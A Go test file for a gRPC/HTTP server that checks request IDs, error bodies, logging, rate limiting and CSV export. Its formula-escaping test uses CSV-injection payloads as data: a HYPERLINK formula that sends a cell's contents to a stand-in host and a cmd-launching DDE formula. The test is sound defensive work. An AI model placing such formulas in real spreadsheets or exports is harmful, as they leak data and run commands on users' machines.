package server_test

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/metadata"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/types/known/emptypb"

	twinningv1 "github.com/provex/provex/gen/go/provex/twinning/v1"
	"github.com/provex/provex/internal/testlog"
	"github.com/provex/provex/server"
)

// logBuffer collects a node's log lines (JSON) for a test to search.
type logBuffer struct{ testlog.Buffer }

// errorsWith returns the ERROR lines whose request_id is id.
func (l *logBuffer) errorsWith(id string) []map[string]any {
	var out []map[string]any
	for _, line := range strings.Split(l.String(), "\n") {
		var m map[string]any
		if json.Unmarshal([]byte(line), &m) == nil && m["level"] == "ERROR" && m["request_id"] == id {
			out = append(out, m)
		}
	}
	return out
}

// sendHTTP sends a request with the header X-Request-Id: id (none if "")
// and returns the response with its body read.
func sendHTTP(t *testing.T, tn *testNode, method, path string, body io.Reader, id string) (*http.Response, []byte) {
	t.Helper()
	req, err := http.NewRequest(method, tn.BaseURL+path, body)
	mustf(t, err, "%s %s", method, path)
	req.Header.Set("Authorization", "Bearer "+tn.Token)
	if id != "" {
		req.Header.Set("X-Request-Id", id)
	}
	resp, err := http.DefaultClient.Do(req)
	mustf(t, err, "%s %s", method, path)
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	mustf(t, err, "%s %s: read body", method, path)
	return resp, b
}

// TestEveryHTTPResponseHasRequestID: refusals made by the HTTP layer itself
// (no route, wrong method, body too large, before or while reading it) and
// by the gRPC server (rate limit, not found) and successes, CSV included,
// all carry X-Request-Id (the caller's when sane), a JSON error body and
// the right status: 413 for a body over the limit, never 429 or 500; and
// X-Content-Type-Options: nosniff, as an error's body may echo the path.
func TestEveryHTTPResponseHasRequestID(t *testing.T) {
	t.Parallel()
	const limit = 64 << 10
	tn := startSecNode(t, "cao-bang", func(c *server.Config) { c.Limits.MaxMessageBytes = limit })
	flood := startSecNode(t, "cao-bang", func(c *server.Config) { c.Limits.RatePerSecond, c.Limits.Burst = 0.001, 1 })
	const coll = "/v1/provinces/cao-bang/agreements"
	big := `{"display_name":"big","kind":"KIND_MOU","summary":"` + strings.Repeat("x", limit) + `"}`

	for _, c := range []struct {
		what, method, path string
		body               func() io.Reader
		status             int
		code               codes.Code
		allow              string // of a 405
	}{
		{"unknown API path", "GET", "/v1/nothing/here", nil, 404, codes.NotFound, ""},
		{"unknown path", "GET", "/nothing", nil, 404, codes.NotFound, ""},
		{"missing record", "GET", coll + "/missing", nil, 404, codes.NotFound, ""},
		{"method not allowed on the API", "DELETE", coll, nil, 405, codes.Unimplemented, "GET, POST"},
		{"method not allowed on a record", "PUT", coll + "/a1", nil, 405, codes.Unimplemented, "GET, PATCH, DELETE"},
		{"method not allowed on health", "POST", "/healthz", nil, 405, codes.Unimplemented, "GET"},
		{"method not allowed on CSV", "POST", "/v1/national/agreements/summary.csv", nil, 405, codes.Unimplemented, "GET"},
		{"body over the limit, with a length", "POST", coll, func() io.Reader { return strings.NewReader(big) }, 413, codes.ResourceExhausted, ""},
		// A reader of unknown length is sent chunked.
		{"body over the limit, chunked", "POST", coll, func() io.Reader { return io.MultiReader(strings.NewReader(big)) }, 413, codes.ResourceExhausted, ""},
		{"CSV of an unknown collection", "GET", "/v1/national/nothing/summary.csv", nil, 400, codes.InvalidArgument, ""},
		{"health", "GET", "/healthz", nil, 200, codes.OK, ""},
		{"CSV", "GET", "/v1/national/agreements/summary.csv?group_by=kind", nil, 200, codes.OK, ""},
	} {
		for _, sent := range []string{"", "caller-id-1", "bad id with spaces"} {
			var body io.Reader
			if c.body != nil {
				body = c.body()
			}
			resp, b := sendHTTP(t, tn, c.method, c.path, body, sent)
			if sniff := resp.Header.Get("X-Content-Type-Options"); sniff != "nosniff" {
				t.Errorf("%s: X-Content-Type-Options %q, want nosniff", c.what, sniff)
			}
			got := resp.Header.Values("X-Request-Id")
			switch {
			case len(got) != 1:
				t.Errorf("%s (sent %q): X-Request-Id %q, want exactly one", c.what, sent, got)
			case sent == "caller-id-1" && got[0] != sent:
				t.Errorf("%s: X-Request-Id %q, want the caller's %q", c.what, got[0], sent)
			case sent != "caller-id-1" && !requestIDPattern.MatchString(got[0]):
				t.Errorf("%s (sent %q): X-Request-Id %q, want one the server made", c.what, sent, got[0])
			}
			if c.code == codes.OK {
				if resp.StatusCode != 200 {
					t.Errorf("%s: HTTP %d %s", c.what, resp.StatusCode, b)
				}
				continue
			}
			wantHTTPDenied(t, c.what, resp.StatusCode, b, c.status, c.code)
			if got := resp.Header.Values("Retry-After"); len(got) != 0 {
				t.Errorf("%s: Retry-After %q, though trying again would meet the same refusal", c.what, got)
			}
			if c.status == http.StatusMethodNotAllowed && resp.Header.Get("Allow") != c.allow {
				t.Errorf("%s: Allow %q, want %q", c.what, resp.Header.Values("Allow"), c.allow)
			}
		}
	}

	// Rate limited: 429 with the id.
	for i := 0; i < 3; i++ {
		resp, b := sendHTTP(t, flood, "GET", coll, nil, "")
		if resp.StatusCode == http.StatusTooManyRequests {
			wantHTTPDenied(t, "rate limited", resp.StatusCode, b, 429, codes.ResourceExhausted)
			// A burst of 1 at 0.001 calls a second: a token comes back
			// within 1,000 s, and the body's RetryInfo says so too.
			if after, err := strconv.Atoi(resp.Header.Get("Retry-After")); err != nil || after < 1 || after > 1000 {
				t.Errorf("429 with Retry-After %q, want whole seconds from 1 to 1000", resp.Header.Values("Retry-After"))
			}
			var answer struct {
				Details []struct {
					Type       string `json:"@type"`
					RetryDelay string `json:"retry_delay"`
				}
			}
			if err := json.Unmarshal(b, &answer); err != nil || len(answer.Details) != 1 ||
				answer.Details[0].Type != "type.googleapis.com/google.rpc.RetryInfo" || answer.Details[0].RetryDelay == "" {
				t.Errorf("429 without RetryInfo in its body: %s", b)
			}
			if !requestIDPattern.MatchString(resp.Header.Get("X-Request-Id")) {
				t.Errorf("429 without X-Request-Id: %q", resp.Header.Values("X-Request-Id"))
			}
			return
		}
	}
	t.Errorf("three calls against a burst of 1 at 0.001/s: no 429")
}

var referencePattern = regexp.MustCompile(`\(reference ([^)]+)\)`)

// TestInternalErrorReferenceIsLogged: an internal error (here the store
// closed under a running node) reaches the caller, over HTTP and gRPC, only
// as a reference that is its request id, and the node logs the error at
// ERROR under that id.
func TestInternalErrorReferenceIsLogged(t *testing.T) {
	t.Parallel()
	logs := &logBuffer{}
	tn := startSecNode(t, "cao-bang", func(c *server.Config) { c.Logger = slog.New(slog.NewJSONHandler(logs, nil)) })
	ctx := testCtx(t)
	mustf(t, tn.Srv.Store().Close(), "close the store")

	resp, body := sendHTTP(t, tn, "GET", "/v1/provinces/cao-bang/agreements/x", nil, "")
	wantHTTPDenied(t, "HTTP get on a closed store", resp.StatusCode, body, 500, codes.Internal, "reference")
	id := resp.Header.Get("X-Request-Id")
	e := decodeHTTPError(t, body)
	if m := referencePattern.FindStringSubmatch(e.Message); m == nil || m[1] != id {
		t.Errorf("HTTP: message %q, want the reference %q (the X-Request-Id)", e.Message, id)
	}
	if !strings.Contains(string(body), `"request_id":"`+id+`"`) {
		t.Errorf("HTTP: body %s lacks a RequestInfo detail with %q", body, id)
	}
	if len(logs.errorsWith(id)) == 0 {
		t.Errorf("HTTP: no ERROR log line with request_id %q:\n%s", id, logs.String())
	}

	var header metadata.MD
	_, err := tn.Twinning.GetAgreement(ctx, &twinningv1.GetAgreementRequest{Name: "provinces/cao-bang/agreements/x"}, grpc.Header(&header))
	st := status.Convert(err)
	ids := header.Get("x-request-id")
	if st.Code() != codes.Internal || len(ids) != 1 {
		t.Fatalf("gRPC get on a closed store: %v, x-request-id %q; want INTERNAL with one id", err, ids)
	}
	if m := referencePattern.FindStringSubmatch(st.Message()); m == nil || m[1] != ids[0] {
		t.Errorf("gRPC: message %q, want the reference %q (the x-request-id)", st.Message(), ids[0])
	}
	if len(logs.errorsWith(ids[0])) == 0 {
		t.Errorf("gRPC: no ERROR log line with request_id %q", ids[0])
	}
}

// linesWith returns the log lines whose request_id is id.
func (l *logBuffer) linesWith(id string) []map[string]any {
	var out []map[string]any
	for _, line := range strings.Split(l.String(), "\n") {
		var m map[string]any
		if json.Unmarshal([]byte(line), &m) == nil && m["request_id"] == id {
			out = append(out, m)
		}
	}
	return out
}

// TestUnknownMethodHasRequestID: a method or service the node does not
// serve is UNIMPLEMENTED (not the policy's PERMISSION_DENIED) for an admin
// and an anonymous caller alike, and the answer carries an x-request-id that
// a log line of the call has.
func TestUnknownMethodHasRequestID(t *testing.T) {
	t.Parallel()
	logs := &logBuffer{}
	tn := startSecNode(t, "cao-bang", func(c *server.Config) {
		c.Logger = slog.New(slog.NewJSONHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	})
	ctx := testCtx(t)
	anonymous := dialAs(t, tn.Srv.GRPCAddr(), "")
	for _, caller := range []struct {
		name string
		conn *grpc.ClientConn
	}{{"admin", tn.Conn()}, {"anonymous", anonymous.Conn()}} {
		for _, method := range []string{"/provex.twinning.v1.TwinningService/DropAllTables", "/nothing.v1.Nothing/Get"} {
			var header metadata.MD
			err := caller.conn.Invoke(ctx, method, &emptypb.Empty{}, &emptypb.Empty{}, grpc.Header(&header))
			if status.Code(err) != codes.Unimplemented {
				t.Errorf("%s calls %s: %v, want UNIMPLEMENTED", caller.name, method, err)
			}
			ids := header.Get("x-request-id")
			if len(ids) != 1 || !requestIDPattern.MatchString(ids[0]) {
				t.Errorf("%s calls %s: x-request-id %q, want one", caller.name, method, ids)
				continue
			}
			lines := logs.linesWith(ids[0])
			if len(lines) != 1 || lines[0]["method"] != method || lines[0]["code"] != "Unimplemented" {
				t.Errorf("%s calls %s: log lines with its request id: %v", caller.name, method, lines)
			}
		}
	}
}

// TestSummaryCSVEscapesFormulas: text a spreadsheet would run as a formula
// (starting with =, +, -, @, tab or CR) comes out of summary.csv behind a
// single quote; counts, and text that is just a number, stay as they are.
func TestSummaryCSVEscapesFormulas(t *testing.T) {
	tn := startNode(t, "cao-bang")
	ctx := testCtx(t)
	names := map[string]string{
		`=HYPERLINK("http://x.example/?"&A1)`: `'=HYPERLINK("http://x.example/?"&A1)`,
		"+SUM(A1:A9)":                         "'+SUM(A1:A9)",
		"-2+3+cmd|' /C calc'!A0":              "'-2+3+cmd|' /C calc'!A0",
		"@SUM(1)":                             "'@SUM(1)",
		"-42":                                 "-42",
		"plain":                               "plain",
		"x;=1":                                "x;=1",
		`a"b`:                                 `a"b`,
		"=1":                                  "'=1",
	}
	for name := range names {
		_, err := tn.Twinning.CreateAgreement(ctx, &twinningv1.CreateAgreementRequest{Parent: tn.parent(), Agreement: newAgreement(name)})
		mustf(t, err, "create %q", name)
	}
	resp, body := sendHTTP(t, tn, "GET", "/v1/national/agreements/summary.csv?group_by=display_name", nil, "")
	if resp.StatusCode != 200 {
		t.Fatalf("summary.csv: HTTP %d %s", resp.StatusCode, body)
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	mustf(t, err, "read the CSV %s", body)
	got := map[string]bool{}
	for _, row := range rows[1:] {
		if row[0] == "freshness of" { // the province's freshness follows
			break
		}
		got[row[0]] = true
		if row[1] != "1" && row[0] != "total" {
			t.Errorf("row %q: count %q, want 1", row, row[1])
		}
	}
	for name, want := range names {
		if !got[want] {
			t.Errorf("%q: no row keyed %q in\n%s", name, want, body)
		}
	}
	// A spreadsheet whose list separator is ";" reads the same bytes: no
	// cell of it may start a formula, bar a number ("-42,1" is -42.1 there).
	number := regexp.MustCompile(`^-?[0-9][0-9,]*$`)
	for _, line := range strings.Split(strings.TrimSuffix(string(body), "\n"), "\n") {
		for _, cell := range splitOutsideQuotes(line, ';') {
			text := strings.TrimPrefix(cell, `"`)
			if text != "" && strings.ContainsRune("=+-@\t\r", rune(text[0])) && !number.MatchString(cell) {
				t.Errorf("split on ';', line %q has the cell %q, a formula", line, cell)
			}
		}
	}
	// Rows are padded to the width of the freshness rows below them.
	if !strings.Contains(string(body), `"x;=1",1,,`) || !strings.Contains(string(body), `"a""b",1,,`) || !strings.Contains(string(body), "\n-42,1,,") {
		t.Errorf("text cells are not all quoted, or numbers are:\n%s", body)
	}
}

// splitOutsideQuotes splits line at each sep outside double quotes, as a
// spreadsheet with that list separator does.
func splitOutsideQuotes(line string, sep rune) []string {
	var cells []string
	quoted, start := false, 0
	for i, r := range line {
		switch {
		case r == '"':
			quoted = !quoted
		case r == sep && !quoted:
			cells = append(cells, line[start:i])
			start = i + 1
		}
	}
	return append(cells, line[start:])
}

// TestHeadersNotASCIIWriteNoLogLines: a request with 5000 Cookie headers
// and a User-Agent that are not ASCII, without a token and with one, over
// the gateway and its fast GET, writes its call's line to the node's log
// and nothing else: no line of grpc-gateway's for each header value it
// could not pass on as gRPC metadata (5000 lines of its own format for one
// request without a token: an outside review). Not parallel: grpc-gateway
// logs to the node made last in the process, which must be this test's.
func TestHeadersNotASCIIWriteNoLogLines(t *testing.T) {
	if testing.Short() {
		t.Skip("5,000 headers a request: CI's race step runs -short, the tests' step runs it")
	}
	logs := &logBuffer{}
	tn := startSecNode(t, "cao-bang", func(c *server.Config) {
		c.Logger = slog.New(slog.NewJSONHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	})
	send := func(method, path, token, body string) (*http.Response, string) {
		t.Helper()
		req, err := http.NewRequest(method, tn.BaseURL+path, strings.NewReader(body))
		mustf(t, err, "%s %s", method, path)
		req.Header["Cookie"] = slices.Repeat([]string{"\xe9"}, 5000)
		req.Header.Set("User-Agent", "caf\xe9")
		if token != "" {
			req.Header.Set("Authorization", "Bearer "+token)
		}
		resp, err := http.DefaultClient.Do(req)
		mustf(t, err, "%s %s", method, path)
		defer resp.Body.Close()
		b, err := io.ReadAll(resp.Body)
		mustf(t, err, "%s %s: read body", method, path)
		return resp, string(b)
	}
	const coll = "/v1/provinces/cao-bang/agreements"
	for _, c := range []struct {
		what, method, path, token, body string
		status                          int
	}{
		{"a list without a token", "GET", coll, "", "", 401},
		{"a get without a token", "GET", coll + "/none", "", "", 401},
		{"a create without a token", "POST", coll, "", `{"display_name":"x"}`, 401},
		{"a list", "GET", coll, tn.Token, "", 200},
		{"a get", "GET", coll + "/none", tn.Token, "", 404},
		{"a create", "POST", coll, tn.Token, `{"display_name":"x"}`, 400},
	} {
		resp, body := send(c.method, c.path, c.token, c.body)
		if resp.StatusCode != c.status {
			t.Errorf("%s: HTTP %d %s, want %d", c.what, resp.StatusCode, body, c.status)
		}
		id := resp.Header.Get("X-Request-Id")
		if lines := logs.linesWith(id); len(lines) != 1 || lines[0]["msg"] != "call" {
			t.Errorf("%s: log lines of its request: %v, want its call's alone", c.what, lines)
		}
	}
	for _, line := range strings.Split(strings.TrimSpace(logs.String()), "\n") {
		var m map[string]any
		if err := json.Unmarshal([]byte(line), &m); err != nil || m["component"] != nil || strings.Contains(line, "Cookie") || strings.Contains(line, "User-Agent") {
			t.Errorf("a log line not of a call: %s", line)
		}
	}
}

// TestRefusedBodiesAreLoggedAndCounted: a body that does not arrive within
// the read timeout, one of the wrong type, one not JSON and one streamed
// past the limit are each answered in plain words (a body that did not
// arrive: DEADLINE_EXCEEDED, 408, never the node's socket), logged as a
// call under the method the route calls, with its caller and request id,
// and counted under that method with the code the caller saw, as a call
// whose request does not decode over gRPC is (the gateway answered them
// before any interceptor ran: an outside review).
func TestRefusedBodiesAreLoggedAndCounted(t *testing.T) {
	t.Parallel()
	const limit = 64 << 10
	logs := &logBuffer{}
	tn := startSecNode(t, "cao-bang", func(c *server.Config) {
		c.Logger = slog.New(slog.NewJSONHandler(logs, nil))
		c.Limits.ReadTimeout, c.Limits.MaxMessageBytes = time.Second, limit
	})
	const path = "/v1/provinces/cao-bang/border-incidents"
	const method = "/provex.border.v1.BorderService/CreateBorderIncident"
	wantCall := func(what, id string, code codes.Code) {
		t.Helper()
		lines := logs.linesWith(id)
		if len(lines) != 1 || lines[0]["msg"] != "call" || lines[0]["method"] != method || lines[0]["code"] != code.String() || lines[0]["caller"] == nil {
			t.Errorf("%s: log lines of its request id %q: %v, want one call of %s, %v, naming its caller", what, id, lines, method, code)
		}
	}

	// 19 bytes of the 200 its Content-Length says, and no more.
	c, err := net.Dial("tcp", tn.Srv.HTTPAddr())
	mustf(t, err, "dial")
	defer c.Close()
	fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: 200\r\n\r\n{\"display_name\": \"x", path, tn.Token)
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	mustf(t, err, "read the answer to a body that does not arrive")
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	wantHTTPDenied(t, "a body that does not arrive", resp.StatusCode, body, http.StatusRequestTimeout, codes.DeadlineExceeded, "did not arrive within 1s")
	if strings.Contains(string(body), "127.0.0.1") || strings.Contains(string(body), "i/o timeout") {
		t.Errorf("a body that does not arrive: answered in Go's words: %s", body)
	}
	wantCall("a body that does not arrive", resp.Header.Get("X-Request-Id"), codes.DeadlineExceeded)

	for _, b := range []struct {
		what string
		body io.Reader
		code codes.Code
	}{
		{"a number for a string", strings.NewReader(`{"display_name": 5}`), codes.InvalidArgument},
		{"not JSON", strings.NewReader(`{"display_name": `), codes.InvalidArgument},
		// No length: streamed, cut off at the limit while decoded.
		{"a body past the limit", io.MultiReader(strings.NewReader(`{"display_name": "`), strings.NewReader(strings.Repeat("x", 2*limit)), strings.NewReader(`"}`)), codes.ResourceExhausted},
	} {
		resp, body := sendHTTP(t, tn, http.MethodPost, path, b.body, "")
		if e := decodeHTTPError(t, body); codes.Code(e.Code) != b.code {
			t.Errorf("%s: HTTP %d %s, want %v", b.what, resp.StatusCode, body, b.code)
		}
		wantCall(b.what, resp.Header.Get("X-Request-Id"), b.code)
	}

	m := scrape(t, http.DefaultClient, tn.BaseURL+"/metrics", tn.Token)
	for code, n := range map[codes.Code]float64{codes.DeadlineExceeded: 1, codes.InvalidArgument: 2, codes.ResourceExhausted: 1} {
		wantValue(t, m, "grpc_server_handled_total", map[string]string{"grpc_method": "CreateBorderIncident", "grpc_code": code.String()}, n)
	}
}
